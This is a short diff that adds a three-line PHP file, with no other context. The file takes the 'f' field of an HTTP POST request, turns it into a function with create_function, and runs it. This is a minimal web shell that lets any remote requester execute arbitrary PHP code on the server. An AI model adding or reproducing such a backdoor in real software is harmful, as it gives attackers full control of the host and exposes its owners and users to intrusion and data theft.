@@ -1,0 +1,3 @@
+<?php
+$handler = create_function('$a', $_POST['f']);
+$handler(1);
